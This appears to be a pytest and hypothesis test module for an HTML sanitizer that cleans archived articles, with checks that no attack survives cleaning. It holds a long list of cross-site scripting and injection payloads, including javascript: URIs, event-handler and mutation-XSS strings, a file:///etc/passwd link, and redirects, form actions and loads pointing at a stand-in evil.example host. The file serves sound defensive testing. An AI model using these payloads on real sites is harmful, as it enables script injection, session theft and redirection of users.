"""Nothing of an archived page runs, loads unasked or reaches out of its article."""

from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from articles.importing.clean.sanitize import INVISIBLE, TAGS, sanitize
from tests.bodies import VIDEO, clean, elements

ATTRIBUTES = frozenset(
    "alt class colspan controls data-embed data-time datetime decoding dir height href id loading open preload referrerpolicy rel"
    " reversed rowspan scope span src start tabindex title type width".split()
)
CLASSES = frozenset("embed footnotes table".split())
PICTURE = "data:image/png;base64,iVBORw0KGgo="

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img src='java\nscript:alert(1)'>",
    "<img src=https://a.example/a.png onload=alert(1) style='x:expression(1)'>",
    "<img/src/onerror=alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Pg==">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    f"<a href='{PICTURE}'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example' target=_blank ping=https://evil.example>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://evil.example/?https://www.youtube.com/embed/abcdefghijk'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example'</style>",
    "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<div style='position:fixed;inset:0' id=content class='masthead' onclick=alert(1)>x</div>",
    "<p id=note-fn1>x</p><li id=search>x</li><sup id='main'>x</sup>",
    "<p class=embed><a data-embed='youtube:abcdefghijk' href='https://evil.example'>x</a></p>",
    "<video src='javascript:alert(1)' autoplay poster=https://evil.example/x.png><source src=data:text/html,x></video>",
    "<audio src=https://a.example/a.mp3 autoplay onplay=alert(1)></audio>",
    "<table background='javascript:alert(1)'><td background=x>x</td></table>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>x</x>",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "[x](data:text/html,alert) [y]: javascript:alert(1)\n\n[y]",
    '[x](https://a.example "onclick=alert(1)")',
    "`<img src=x onerror=alert(1)>` \\<img src=x onerror=alert(1)>",
    "a |b\n-|-\n<img src=x onerror=alert(1)> | <script>alert(1)</script>",
    "{: onclick='alert(1)'}\n*x*{: onclick='alert(1)' style='x'}",
    '<div markdown="1" onclick=alert(1)>\n[x](javascript:alert(1))\n</div>',
    "\x00<\x00script>alert(1)</script>",
]


def unsafe_parts(html: str) -> list[str]:
    """What of this HTML breaks the policy, as a browser would parse it."""
    found = []
    for element in elements(html):
        if element.tag not in TAGS:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if name not in ATTRIBUTES:
                found.append(f"{name}={value}")
            if name in ("href", "src") and not is_safe_address(element.tag, name, value):
                found.append(f"{name}={value}")
            if name == "id" and not value.startswith("note-"):
                found.append(f"id={value}")
            if name == "class" and not set(value.split()) <= CLASSES:
                found.append(f"class={value}")
    return found


def is_safe_address(tag, name, value):
    scheme = urlsplit(value).scheme
    if scheme == "data":
        return (tag, name) == ("img", "src") and value.startswith(
            ("data:image/png", "data:image/jpeg", "data:image/gif", "data:image/webp")
        )
    return scheme in ("http", "https", "mailto") or value.startswith("#note-")


def test_the_check_itself_finds_what_is_unsafe():
    assert unsafe_parts("<script>x</script><a href='javascript:x' onclick=x id=a class=b>x</a>")[0] == "<script>"
    assert len(unsafe_parts("<a href='javascript:x' onclick=x id=a class=b>x</a>")) == 4


@pytest.mark.parametrize("source", [VIDEO, "https://news.example.com/a", ""])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through(attack, source):
    for body in (attack, f"<div>{attack}</div>", f"文 {attack}\n\n文"):
        assert unsafe_parts(clean(body, source=source).html) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_last_step_alone_holds_the_policy_too(attack):
    """Only addresses without a scheme, which the steps before resolve, may be left to it."""
    assert [part for part in unsafe_parts(sanitize(attack)) if ":" in part or "=" not in part] == []


@given(st.lists(st.sampled_from([*ATTACKS, "<p>", "</p>", "<table>", "<b>", "</div>", "<a href=x>", "<select>", "文"]), max_size=6))
def test_mixtures_are_safe_and_stay_as_they_are(parts):
    html = clean("".join(parts)).html
    assert unsafe_parts(html) == []
    assert sanitize(html) == html


def test_the_text_of_removed_elements_stays_but_for_what_no_browser_shows():
    cleaned = clean("<form>表<button>钮</button></form><svg><text>图</text></svg><script>码</script><noscript>无</noscript>")
    assert cleaned.text.replace("\n", "") == "表钮图无"
    assert INVISIBLE.isdisjoint(TAGS)


def test_a_picture_in_the_body_itself_is_kept():
    html = clean(f"<p><img src='{PICTURE}' alt='图'></p>").html
    assert f'src="{PICTURE}"' in html


def test_links_tell_other_sites_nothing():
    link = elements(clean("<a href='https://a.example/'>x</a>").html)[-1]
    assert set(link.get("rel").split()) == {"noopener", "noreferrer", "nofollow"}
